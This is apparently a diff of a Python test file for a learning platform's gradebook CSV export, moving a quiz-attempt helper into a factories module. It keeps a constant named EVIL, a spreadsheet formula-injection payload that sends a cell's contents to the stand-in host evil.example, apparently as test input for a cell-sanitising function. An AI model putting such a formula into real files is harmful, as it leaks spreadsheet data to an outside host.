@@ -13,23 +13,13 @@ from mesolearn.accounts import Accounts
 from mesolearn.cohorts import CohortError, Cohorts, gradebook, to_csv
 from mesolearn.cohorts.gradebook import COLUMNS, safe_cell
 from mesolearn.quiz.attempts import Attempts
-from mesolearn.quiz.grading import correct_response
 from mesolearn.storage import Database
 from tests.conftest import Clock
-from tests.factories import save_whole
+from tests.factories import take
 
-ROOT = Path(__file__).resolve().parents[1]
+ROOT = Path(__file__).resolve().parents[2]
 T0 = datetime(2030, 3, 1, 9, 0, 0)
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-
-
-def take(attempts, user_id, quiz_id, n_correct, seed=1):
-    """Submit an attempt with the first ``n_correct`` questions right and the rest blank."""
-    attempt_id = attempts.start(user_id, quiz_id, seed=seed)
-    for i, item in enumerate(attempts.load(attempt_id, user_id).items):
-        if i < n_correct:
-            save_whole(attempts, attempt_id, user_id, item.question.id, correct_response(item.question))
-    return attempts.submit(attempt_id, user_id)
 
 
 @pytest.fixture
